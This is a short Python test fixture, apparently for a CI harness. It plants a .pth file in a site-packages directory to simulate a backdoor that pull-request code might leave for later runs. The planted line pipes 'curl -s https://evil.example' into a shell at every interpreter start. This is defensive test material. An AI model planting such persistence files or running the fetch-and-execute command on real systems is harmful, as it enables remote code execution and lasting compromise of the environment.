"""What a pull request's code could leave in an environment for a later run: shared by the environment tests."""

from __future__ import annotations

from pathlib import Path


def plant_pth(path: Path) -> Path:
    """A .pth file in the environment's site-packages: it runs at every interpreter start."""
    site = path / "lib" / "python3" / "site-packages"
    site.mkdir(parents=True, exist_ok=True)
    planted = site / "zz-harness-backdoor.pth"
    planted.write_text("import os; os.system('curl -s https://evil.example | sh')\n")
    return planted
